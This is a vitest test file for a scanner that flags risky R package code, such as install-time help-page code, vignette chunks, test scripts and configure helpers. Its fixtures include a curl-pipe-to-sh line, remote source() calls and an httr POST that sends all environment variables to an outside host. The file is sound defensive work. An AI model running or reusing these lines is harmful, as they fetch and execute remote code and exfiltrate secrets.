import { describe, expect, test } from "vitest";
import { inspect } from "../inspect.ts";
import { rPackage } from "../testing/packages.ts";

async function signalsIn(path: string, text: string): Promise<string[]> {
  const { source, ...what } = await rPackage({ [path]: text });
  const { signals } = await inspect(source, what);
  const own = signals.filter(({ id, file }) => file === path && id !== "host");
  return own.map(({ level, id, subject, line }) => `${level} ${id} ${subject} ${line}`);
}

describe("code of a help page", () => {
  const page = (code: string) => `\\name{a}\n\\title{A}\n\\description{B \\Sexpr[stage=install]{${code}} c}\n`;

  test("that starts a program or connects runs when the package is installed", async () => {
    expect(await signalsIn("man/a.Rd", page('system("id")'))).toEqual(["warning r-help-code system 3"]);
    expect(await signalsIn("man/a.Rd", page('{\n utils::download.file(a, b)\n ""\n}'))).toEqual([
      "warning r-help-code download.file 4",
    ]);
    expect(await signalsIn("man/a.Rd", page('if (a) 1 else 2} and \\Sexpr{system("id")'))).toEqual([
      "warning r-help-code system 3",
    ]);
  });

  test("is seen after long options", async () => {
    const long = `\\description{\\Sexpr[${"results=hide,".repeat(40)}stage=install]{system("id")}}\n`;
    expect(await signalsIn("man/a.Rd", long)).toEqual(["warning r-help-code system 1"]);
  });

  test("that shows something is fine, and so are examples", async () => {
    expect(await signalsIn("man/a.Rd", page('lifecycle::badge("stable")'))).toEqual([]);
    expect(await signalsIn("man/a.Rd", '\\name{a}\n\\examples{system("id")}\n')).toEqual([]);
    expect(await signalsIn("man/a.Rd", "\\name{a}\n\\description{\\Sexpr[stage=\n")).toEqual([]);
  });
});

describe("code of a vignette", () => {
  const markdown = (code: string) =>
    `---\ntitle: A\n---\n\n\`\`\`{r, include=FALSE}\n${code}\n\`\`\`\n\nsystem("text")\n`;

  test("may connect, but neither start programs nor run what it fetches or hides", async () => {
    expect(await signalsIn("vignettes/a.Rmd", markdown('system("make")'))).toEqual(["warning process system 6"]);
    expect(await signalsIn("vignettes/a.Rmd", markdown("download.file(a, b)"))).toEqual([
      "notice network download.file 6",
    ]);
    expect(await signalsIn("vignettes/a.Rmd", markdown('system("curl -s https://a.example/x | sh")'))).toContain(
      "warning decoded-code system 6",
    );
    expect(
      await signalsIn("vignettes/a.Rnw", 'a\n<<b>>=\nsource("https://a.example/b.R")\n@\nsystem("x")\n'),
    ).toContain("warning decoded-code source 3");
  });

  test("is seen in every format", async () => {
    const options = `a, ${"b=1, ".repeat(80)}`;
    for (const [path, text] of [
      ["vignettes/a.Rnw", `<<${options}>>=\nsystem("make")\n@\n`],
      ["vignettes/a.Rhtml", '<!--begin.rcode a, echo=FALSE\nsystem("make")\nend.rcode-->\n'],
      ["vignettes/a.Rrst", '.. {r a}\nsystem("make")\n.. ..\n'],
    ] as const)
      expect(await signalsIn(path, text)).toEqual(["warning process system 2"]);
  });

  test("is seen in a block quote, in a line of text, and with other engines of R", async () => {
    const found = async (text: string, name = "a.Rmd") => (await signalsIn(`vignettes/${name}`, text)).join();
    expect(await found('> ```{r}\n> system("make")\n> ```\n')).toBe("warning process system 2");
    expect(await found('``` {r}\nsystem("make")\n```\n')).toBe("warning process system 2");
    expect(await found('Text `r 1` and `r system("make")` more\n')).toBe("warning process system 1");
    expect(await found('Text \\Sexpr{system("make")} more\n', "a.Rnw")).toBe("warning process system 1");
    expect(await found('Text `system("make")` and `rows` more\n')).toBe("");
  });

  test("of a shell is a warning where it connects or starts a script, and elsewhere a notice", async () => {
    const found = async (code: string, options = "") =>
      await signalsIn("vignettes/a.Rmd", `\`\`\`{bash${options}}\n${code}\n\`\`\`\n`);
    expect(await found("curl -s https://a.example/x | sh")).toEqual(["warning process bash 2"]);
    expect(await found("sh ../inst/x")).toEqual(["warning process bash 2"]);
    expect(await found("ls *.csv")).toEqual(["notice process bash 2"]);
    expect(await found("curl -s https://a.example/x | sh", ", eval=FALSE")).toEqual([]);
    expect(await found("#| eval: false\ncurl -s https://a.example/x | sh")).toEqual([]);
  });

  test("of another language is none unless it reaches outside", async () => {
    expect(await signalsIn("vignettes/a.Rmd", "```{python}\nimport os\nos.system('id')\n```\n")).toEqual([
      "warning process python 2",
    ]);
    expect(await signalsIn("vignettes/a.Rmd", "```{python}\nsystem('id')\n```\n")).toEqual([]);
    expect(await signalsIn("vignettes/a.Rmd", "```r\nsystem('id')\n```\n")).toEqual([]);
  });
});

test("tests may ask about their machine or connect, but not both", async () => {
  const both = 'httr::POST("https://a.example", body = as.list(Sys.getenv()))\n';
  expect(await signalsIn("tests/a.R", both)).toContain("warning secret-environment Sys.getenv() 1");
  const info = 'download.file(paste0("https://a.example/?", Sys.info()[["user"]]), b)\n';
  expect(await signalsIn("tests/a.R", info)).toContain("warning environment Sys.info 1");
  expect(await signalsIn("R/a.R", `f <- function(b) ${info}`)).toContain("notice environment Sys.info 1");
  expect(await signalsIn("tests/a.R", "x <- Sys.info()\n")).toEqual(["notice environment Sys.info 1"]);
  expect(await signalsIn("tests/a.R", 'system("wget x")\nsystem("make")\n')).toEqual([
    "warning process system 1",
    "notice process system 2",
  ]);
  expect(await signalsIn("tests/a.R", "x <- Sys.getenv()\n")).toEqual(["notice secret-environment Sys.getenv() 1"]);
});

test("a script that configure starts counts as part of it", async () => {
  expect(await signalsIn("tools/fetch.R", "download.file(a, b)\n")).toEqual(["warning r-configure download.file 1"]);
});
